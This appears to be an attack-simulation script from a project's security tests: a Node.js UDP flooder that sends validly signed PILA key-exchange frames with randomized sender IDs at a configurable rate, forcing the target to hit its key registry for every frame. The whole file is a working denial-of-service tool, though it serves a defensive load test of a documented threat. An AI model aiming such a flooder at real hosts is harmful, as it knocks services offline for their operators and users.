// The attacker of scenario 1 (SECURITY.md): PILAs with random sender IDs at a fixed rate.
// Usage: node pila-flood.mjs HOST PORT RATE SECONDS. Prints {"ready":true} when it starts and
// {"sent":N,"seconds":S} when it is done. Each frame is a well-formed PILA (a real signature by a
// throwaway key over its first sender ID); only the sender ID changes, so the victim must ask the
// registry for a key it does not have before it can even check the signature.
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createAuthKeyExchange, generateX25519KeyPair, identityFromSeed } from '@pilot/crypto';

const [host, portText, rateText, secondsText] = process.argv.slice(2);
const port = Number(portText);
const rate = Number(rateText);
const seconds = Number(secondsText);
const identity = identityFromSeed(randomBytes(32));
const template = createAuthKeyExchange(identity, 0x00ff_0001, generateX25519KeyPair().publicKey);
const socket = createSocket('udp4');
const started = performance.now();
let sent = 0;
process.stdout.write(`${JSON.stringify({ ready: true, bytes: template.length })}\n`);

const timer = setInterval(() => {
  const elapsed = (performance.now() - started) / 1000;
  if (elapsed >= seconds) {
    clearInterval(timer);
    socket.close(() => {
      process.stdout.write(`${JSON.stringify({ sent, seconds: elapsed })}\n`);
    });
    return;
  }
  // Catch up to the rate (timers are coarse under load).
  const due = Math.floor(elapsed * rate) - sent;
  for (let i = 0; i < due; i++) {
    const frame = Buffer.from(template);
    // A random sender in 1 … 2^31 (never 0, never the victim's own ID in practice).
    frame.writeUInt32BE(1 + Math.floor(Math.random() * 0x7fff_fffe), 4);
    socket.send(frame, port, host);
    sent++;
  }
}, 5);
